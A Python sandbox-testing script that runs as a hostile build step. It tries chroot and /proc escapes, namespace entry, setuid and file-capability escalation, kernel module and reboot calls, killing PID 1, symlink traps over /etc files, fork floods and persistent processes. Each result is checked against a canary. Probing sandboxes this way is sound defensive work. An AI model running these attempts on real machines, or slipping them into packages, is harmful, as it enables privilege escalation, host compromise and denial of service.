#!/usr/bin/python3
"""What a hostile build step tries: to read and write the machine's files, to reach its network and
processes, to change its kernel, to gain rights, to leave something behind, to use it up.

It runs as a maintainer script, as a build backend and as a plain command. `TARGET` says where to try:
`canary`, a file of the machine; `folder`, one that its owner may write to; `socket` and `abstract`, Unix
sockets, and `port`, a TCP port, on which somebody listens; `pid`, a process; `processes`, `open_files` and
`memory`, the limits. What it looks for in files and environments is MARK, from its end to its beginning,
lest it be found here. A try that returns something true has succeeded.
"""

import ctypes
import errno
import fcntl
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

TARGET = json.loads(r"""@TARGET@""")
MARK = bytes(reversed(b"yranac-terces"))
LIBC = ctypes.CDLL(None, use_errno=True)
# Linux, `arch/x86/entry/syscalls/syscall_64.tbl`.
CALLS = dict(
    clone=56, reboot=169, init_module=175, delete_module=176, kexec_load=246, add_key=248, keyctl=250,
    unshare=272, perf_event_open=298, name_to_handle_at=303, open_by_handle_at=304, setns=308,
    process_vm_readv=310, finit_module=313, bpf=321, userfaultfd=323, io_uring_setup=425, open_tree=428,
    fsopen=430, clone3=435, mount=165, umount2=166, pivot_root=155, swapon=167, sethostname=170,
    settimeofday=164, clock_settime=227, quotactl=179, acct=163, syslog=103, chroot=161, ptrace=101,
    iopl=172, personality=135, mount_setattr=442, pidfd_getfd=438, vhangup=153, fanotify_init=300,
)
NEWNS, NEWUSER, NEWNET = 0x20000, 0x10000000, 0x40000000
tries = []


def attempt(function):
    tries.append(function)
    return function


def call(name, *arguments):
    """Makes a system call; false where it fails."""
    ctypes.set_errno(0)
    plain = [ctypes.c_char_p(one) if isinstance(one, bytes) else ctypes.c_long(one) for one in arguments]
    return LIBC.syscall(CALLS[name], *plain) >= 0


def processes():
    return [path for path in Path("/proc").glob("[0-9]*") if path.name.isdigit()]


def readable(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def writable(path):
    try:
        with open(path, "r+b"):
            return True
    except OSError:
        return False


def is_canary(path):
    return MARK in readable(path)


# The machine's files.

@attempt
def a_file_of_the_machine():
    return is_canary(TARGET["canary"]) or os.path.lexists(TARGET["canary"])


@attempt
def a_file_through_the_roots_of_processes():
    return [path for path in processes() if is_canary(f"{path}/root{TARGET['canary']}")]


@attempt
def a_file_through_the_working_folders_of_processes():
    ups = "/".join([".."] * 40)
    return [path for path in processes() if is_canary(f"{path}/cwd/{ups}{TARGET['canary']}")]


@attempt
def a_file_through_the_open_files_of_processes():
    ups = "/".join([".."] * 40)
    found = []
    for path in processes():
        try:
            names = os.listdir(f"{path}/fd")
        except OSError:
            continue
        found += [name for name in names if is_canary(f"{path}/fd/{name}/{ups}{TARGET['canary']}")]
    return found


@attempt
def a_folder_that_was_left_open():
    return [number for number in range(3, 4096) if readable_folder(number)]


def readable_folder(number):
    try:
        return os.readlink(f"/proc/self/fd/{number}").startswith("/")
    except OSError:
        return False


@attempt
def a_file_above_the_root():
    return is_canary("/" + "/".join([".."] * 40) + TARGET["canary"])


@attempt
def a_file_above_a_root_within_the_root():
    os.makedirs("/tmp/within", exist_ok=True)
    handle = os.open("/", os.O_RDONLY)
    if not call("chroot", b"/tmp/within"):
        return False
    os.fchdir(handle)
    for _ in range(100):
        os.chdir("..")
    return is_canary("." + TARGET["canary"])


@attempt
def a_file_by_its_handle():
    buffer = ctypes.create_string_buffer(128)
    return call("name_to_handle_at", 0, b"/", ctypes.addressof(buffer), 0, 0) and call(
        "open_by_handle_at", 0, ctypes.addressof(buffer), 0)


@attempt
def another_mount_of_the_machine():
    points = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    ours = re.compile(r"/|/(proc|dev|run|tmp|attack|wheels|lock)(/.*)?")
    return [point for point in points if not ours.fullmatch(point)]


@attempt
def a_folder_of_the_machine():
    Path(TARGET["folder"], "written").write_text("written")
    return os.path.samefile(TARGET["folder"], TARGET["folder"]) and not TARGET["folder"].startswith("/tmp")


@attempt
def the_program_that_runs_this():
    return [path for path in processes() if writable(path / "exe")]


@attempt
def links_for_whoever_reads_the_root_later():
    # Nothing is gained now: whoever runs this looks for MARK in what was left.
    for name in ("var/lib/apt/extended_states", "etc/machine-id", "etc/shadow-", "left-behind"):
        path = Path("/", name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to("/proc/1/root" + TARGET["canary"])
    return is_canary("/left-behind")


# What the caller knows.

@attempt
def a_secret_in_an_environment():
    return [path for path in processes() if MARK in readable(path / "environ")]


@attempt
def a_secret_in_a_command_line():
    return [path for path in processes() if MARK in readable(path / "cmdline")]


@attempt
def what_the_first_process_is():
    names = ("environ", "maps", "mem", "auxv", "stack", "syscall", "io")
    return [name for name in names if os.access(f"/proc/1/{name}", os.R_OK) and readable(f"/proc/1/{name}")]


@attempt
def where_the_first_process_is():
    found = []
    for name in ("root", "cwd", "exe", "fd/1", "ns/mnt"):
        try:
            found.append(os.readlink(f"/proc/1/{name}"))
        except OSError:
            pass
    return found


# The machine's kernel.

@attempt
def a_setting_of_the_kernel():
    return [str(path) for path in Path("/proc/sys").rglob("*") if path.is_file() and writable(path)]


@attempt
def the_core_pattern():
    return writable("/proc/sys/kernel/core_pattern")


@attempt
def the_magic_key():
    return os.path.exists("/proc/sysrq-trigger") and writable("/proc/sysrq-trigger")


@attempt
def memory_of_the_kernel():
    return readable("/proc/kcore") or readable("/dev/mem") or readable("/dev/kmsg")


@attempt
def keys_and_timers_of_the_kernel():
    names = ("keys", "timer_list", "sched_debug", "latency_stats", "interrupts")
    return [name for name in names if readable(f"/proc/{name}")]


@attempt
def an_interrupt_or_a_bus():
    paths = [path for name in ("irq", "bus", "fs") for path in Path("/proc", name).rglob("*")]
    return [str(path) for path in paths if path.is_file() and writable(path)]


@attempt
def the_devices_in_sys():
    return os.path.exists("/sys") and os.listdir("/sys")


@attempt
def a_mount():
    return call("mount", b"tmpfs", b"/mnt", b"tmpfs", 0, 0)


@attempt
def a_mount_of_another_kind():
    return call("fsopen", b"tmpfs", 0) or call("open_tree", -100, b"/", 1) or call("mount_setattr", -100, b"/", 0, 0, 0)


@attempt
def what_is_below_a_mount():
    return call("umount2", b"/proc/sys", 2) or call("umount2", b"/proc", 2)


@attempt
def a_mount_that_is_read_only():
    return call("mount", b"none", b"/proc/sys", b"", 32 | 4096, 0)


@attempt
def another_root():
    return call("pivot_root", b"/", b"/tmp")


@attempt
def a_user_namespace():
    return call("unshare", NEWUSER)


@attempt
def a_child_in_namespaces():
    pid = LIBC.syscall(CALLS["clone"], ctypes.c_long(NEWUSER | NEWNS | signal.SIGCHLD), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid > 0


@attempt
def a_child_in_namespaces_by_the_newer_call():
    arguments = (ctypes.c_uint64 * 11)(NEWUSER, 0, 0, 0, signal.SIGCHLD)
    pid = LIBC.syscall(CALLS["clone3"], arguments, ctypes.sizeof(arguments))
    if pid == 0:
        os._exit(0)
    return pid > 0


@attempt
def a_namespace_of_another():
    found = []
    for path in processes():
        for kind in ("mnt", "user", "net", "pid"):
            try:
                with open(path / "ns" / kind) as file:
                    found += [f"{path}/{kind}"] if call("setns", file.fileno(), 0) else []
            except OSError:
                pass
    return found


@attempt
def a_module():
    return call("init_module", b"", 0, b"") or call("finit_module", 0, b"", 0) or call("delete_module", b"ext4", 0)


@attempt
def another_kernel():
    return call("kexec_load", 0, 0, 0, 0) or call("reboot", 0xFEE1DEAD, 672274793, 0, 0)


@attempt
def a_program_in_the_kernel():
    return call("bpf", 0, 0, 0) or call("perf_event_open", 0, 0, -1, -1, 0)


@attempt
def little_used_calls():
    return call("userfaultfd", 0) or call("io_uring_setup", 1, 0) or call("iopl", 3) or call("fanotify_init", 0, 0)


@attempt
def a_keyring():
    return call("add_key", b"user", b"name", b"value", 5, -3) or call("keyctl", 0, -3, 1)


@attempt
def the_clock():
    times = (ctypes.c_long * 2)(int(time.time()), 0)
    return call("settimeofday", ctypes.addressof(times), 0) or call("clock_settime", 0, ctypes.addressof(times))


@attempt
def the_name_of_the_machine():
    return call("sethostname", b"other", 5)


@attempt
def swap_quotas_and_accounts():
    return call("swapon", b"/tmp", 0) or call("quotactl", 0x80000200, b"/", 0, 0) or call("acct", b"/tmp/acct")


@attempt
def the_log_of_the_kernel():
    return call("syslog", 3, ctypes.addressof(ctypes.create_string_buffer(64)), 64)


@attempt
def a_disk():
    number = os.makedev(8, 0)
    try:
        os.mknod("/tmp/disk", 0o60600, number)
    except OSError:
        pass
    paths = ["/tmp/disk", *map(str, Path("/dev").glob("[svx]d[a-z]*")), "/dev/nvme0", "/dev/loop-control", "/dev/fuse"]
    return [path for path in paths if readable(path) or writable(path)]


@attempt
def an_attribute_that_nobody_can_remove():
    Path("/tmp/immutable").write_text("")
    with open("/tmp/immutable") as file:
        try:
            fcntl.ioctl(file, 0x40086602, b"\x10\0\0\0\0\0\0\0")
            return True
        except OSError:
            return False


@attempt
def a_subvolume_that_nobody_can_remove():
    # BTRFS_IOC_SUBVOL_CREATE, SNAP_CREATE_V2: refused before a file system is asked.
    with_file = os.open("/tmp", os.O_RDONLY)
    reached = []
    for request in 0x5000940E, 0x50009417:
        try:
            fcntl.ioctl(with_file, request, bytearray(4096))
            reached.append(hex(request))
        except OSError as error:
            if error.errno != errno.EPERM:
                reached.append(hex(request))
    os.close(with_file)
    return reached


@attempt
def all_that_the_user_may_watch():
    allowed = int(Path("/proc/sys/fs/inotify/max_user_instances").read_text())
    handles = []
    while len(handles) <= allowed and (handle := LIBC.inotify_init()) >= 0:
        handles.append(handle)
    for handle in handles:
        os.close(handle)
    return len(handles) > allowed // 2


# Rights.

@attempt
def more_capabilities():
    status = Path("/proc/self/status").read_text()
    # CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID, SETFCAP.
    allowed = 0b11111011 | 1 << 31
    sets = {name: int(value, 16) for name, value in re.findall(r"(Cap\w+):\s+(\w+)", status)}
    return {name: hex(value) for name, value in sets.items() if value & ~allowed}


@attempt
def no_filter():
    status = Path("/proc/self/status").read_text()
    return "NoNewPrivs:\t1" not in status or "Seccomp:\t2" not in status


@attempt
def rights_by_a_program_with_set_user_id():
    script = "import os; os.setresuid(65000, 65000, 65000); os.execv('/tmp/set-uid', ['python3', '-c', {!r}])"
    subprocess.run(["cp", os.path.realpath(sys.executable), "/tmp/set-uid"], check=True)
    os.chmod("/tmp/set-uid", 0o4755)
    os.chmod("/tmp", 0o1777)
    inner = "import os; print(os.geteuid())"
    said = subprocess.run([sys.executable, "-c", script.format(inner)], capture_output=True, text=True).stdout
    return said.strip() == "0"


@attempt
def rights_by_a_file_capability():
    subprocess.run(["cp", os.path.realpath(sys.executable), "/tmp/capable"], check=True)
    # VFS_CAP_REVISION_2, effective: CAP_SYS_ADMIN.
    value = b"\x01\x00\x00\x02" + (1 << 21).to_bytes(4, "little") + bytes(12)
    os.setxattr("/tmp/capable", "security.capability", value)
    said = subprocess.run(
        ["/tmp/capable", "-c", "print(open('/proc/self/status').read())"], capture_output=True, text=True)
    effective = int((re.search(r"CapEff:\s+(\w+)", said.stdout) or [0, "0"])[1], 16)
    return effective & 1 << 21


@attempt
def higher_limits():
    raised = []
    for name, value in (("NOFILE", 1 << 20), ("NPROC", 1 << 22), ("DATA", -1), ("CORE", 1 << 30)):
        number = getattr(resource, f"RLIMIT_{name}")
        try:
            resource.setrlimit(number, (value, value))
            raised.append(name)
        except (OSError, ValueError):
            pass
    return raised


@attempt
def a_higher_priority():
    gained = []
    for name, change in (
        ("nice", lambda: os.nice(-5)),
        ("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))),
        ("last to be killed", lambda: Path("/proc/self/oom_score_adj").write_text("-1000")),
    ):
        try:
            change()
            gained.append(name)
        except OSError:
            pass
    return gained


@attempt
def another_personality():
    return call("personality", 0x0400000)


# Processes.

@attempt
def a_process_of_the_machine():
    # The numbers of this namespace begin at 1: one that is as high is the machine's.
    try:
        os.kill(TARGET["pid"], 0)
        return TARGET["pid"] > 5000
    except OSError:
        return False


@attempt
def processes_that_are_not_ours():
    return [path for path in processes() if int(path.name) > 5000]


@attempt
def the_end_of_the_first_process():
    # What succeeds without an effect is no success: the kernel drops it.
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(1, number)
        except OSError:
            pass
    return not os.path.exists("/proc/1")


@attempt
def the_memory_of_the_first_process():
    return call("ptrace", 16, 1, 0, 0) or writable("/proc/1/mem") or call("pidfd_getfd", 0, 1, 0)


@attempt
def the_terminal():
    gained = []
    for path in ("/dev/tty", "/dev/console", "/dev/tty1"):
        try:
            with open(path, "w") as file:
                fcntl.ioctl(file, 0x5412, b"x")
                gained.append(path)
        except OSError:
            pass
    return gained


# The network.

def connects(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect(address)
        return True


@attempt
def a_service_of_the_machine():
    return connects(("127.0.0.1", TARGET["port"]))


@attempt
def a_socket_of_the_machine():
    return connects(TARGET["socket"], socket.AF_UNIX)


@attempt
def an_abstract_socket_of_the_machine():
    return connects("\0" + TARGET["abstract"], socket.AF_UNIX)


@attempt
def the_docker_engine():
    return connects("/var/run/docker.sock", socket.AF_UNIX)


@attempt
def the_internet():
    return connects(("1.1.1.1", 80))


@attempt
def a_name():
    return socket.getaddrinfo("example.com", 80)


@attempt
def another_interface():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attempt
def sockets_that_go_around_the_network():
    gained = []
    for name, family, kind in (
        ("packet", 17, socket.SOCK_RAW), ("vsock", 40, socket.SOCK_STREAM), ("alg", 38, socket.SOCK_SEQPACKET),
        ("raw", socket.AF_INET, socket.SOCK_RAW), ("bluetooth", 31, socket.SOCK_RAW),
    ):
        try:
            socket.socket(family, kind, 1 if name == "raw" else 0).close()
            gained.append(name)
        except OSError:
            pass
    return gained


@attempt
def an_address_for_the_interface():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        family = socket.AF_INET.to_bytes(2, "little")
        request = b"lo" + bytes(14) + family + bytes(2) + socket.inet_aton("10.0.0.1") + bytes(8)
        fcntl.ioctl(handle, 0x8916, request)
        return True


# To use it up, and to leave something behind.

@attempt
def more_processes_than_allowed():
    """As several users, for each could be counted apart."""
    children = []

    def fill():
        for _ in range(TARGET["processes"] * 2):
            try:
                pid = os.fork()
            except OSError:
                return
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)

    fill()
    reader, writer = os.pipe()
    more = 0
    try:
        if os.fork() == 0:
            os.setresuid(65001, 65001, 65001)
            fill()
            os.write(writer, str(len(children)).encode())
            os._exit(0)
        os.wait()
        os.close(writer)
        more = int(os.read(reader, 100) or b"0") - len(children)
    except OSError:
        pass
    total = len(children) + more
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break
    return total > TARGET["processes"] and f"{total}"


@attempt
def more_open_files_than_allowed():
    held = []
    try:
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        while len(held) <= TARGET["open_files"]:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    for one in held:
        os.close(one)
    return len(held) > TARGET["open_files"]


@attempt
def more_memory_than_allowed():
    try:
        return len(bytearray(TARGET["memory"] + 1)) > TARGET["memory"]
    except MemoryError:
        return False


@attempt
def a_core_dump():
    pid = os.fork()
    if pid == 0:
        os.chdir("/tmp")
        os.kill(os.getpid(), signal.SIGSEGV)
        time.sleep(10)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return os.WCOREDUMP(status)


@attempt
def a_process_that_stays():
    # Whoever runs this looks for it afterwards.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            # Whoever started this waits for the end of its output.
            for number in range(3):
                os.dup2(os.open("/dev/null", os.O_RDWR), number)
            os.execvp("sleep", ["sleep", "54321"])
        os._exit(0)
    os.wait()


@attempt
def folders_that_nobody_can_remove():
    # Below /tmp, which is no part of what is left.
    os.makedirs("/tmp/deep", exist_ok=True)
    here = os.open("/tmp/deep", os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("a", dir_fd=here)
        below = os.open("a", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    os.chmod("/tmp/deep", 0)


def attack(name):
    for function in tries:
        try:
            gained = function()
        except (OSError, ChildProcessError, MemoryError) as error:
            print(f"{name}: {function.__name__}: {error}", flush=True)
        else:
            if gained:
                print(f"GAINED {name}: {function.__name__}: {gained}", flush=True)
    print(f"TRIED {name}: {len(tries)}", flush=True)


if __name__ == "__main__":
    attack(sys.argv[1] if len(sys.argv) > 1 else "command")
